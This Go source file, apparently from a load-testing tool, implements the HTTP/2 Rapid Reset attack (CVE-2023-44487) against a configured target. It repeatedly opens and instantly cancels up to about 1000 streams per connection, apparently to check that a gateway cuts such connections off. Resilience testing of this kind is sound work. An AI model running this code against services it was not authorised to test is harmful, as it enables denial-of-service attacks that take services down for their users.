package load

import (
	"bytes"
	"context"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
)

const (
	// resetPause is how long the attacker waits before it connects again.
	resetPause = 200 * time.Millisecond
	// resetStreams bounds what it tries on a connection, if nobody ends it.
	resetStreams = 1000
	// resetPatience bounds the time of one connection.
	resetPatience = 5 * time.Second
)

// resetRapidly opens streams and resets them at once, as in CVE-2023-44487, on one
// connection after the other.
func (g *Generator) resetRapidly(ctx context.Context) {
	for ctx.Err() == nil {
		// However it ended: that the gateway ends it is what the fault is about.
		_ = g.attack(ctx)
		sleep(ctx, resetPause)
	}
}

func (g *Generator) attack(ctx context.Context) error {
	nc, err := new(net.Dialer).DialContext(ctx, "tcp", g.cfg.Target)
	if err != nil {
		return err
	}
	defer nc.Close()
	defer context.AfterFunc(ctx, func() { nc.Close() })()
	if err := nc.SetDeadline(time.Now().Add(resetPatience)); err != nil {
		return err
	}
	var out bytes.Buffer
	out.WriteString(http2.ClientPreface)
	f := http2.NewFramer(&out, nil)
	_ = f.WriteSettings()
	r := newByHand(f, g.cfg.Target)
	for id := uint32(1); id < 2*resetStreams; id += 2 {
		r.get(id, "/orders/export?bytes=1")
		_ = f.WriteRSTStream(id, http2.ErrCodeCancel)
	}
	if _, err := nc.Write(out.Bytes()); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, nc) // until the gateway has had enough
	return err
}
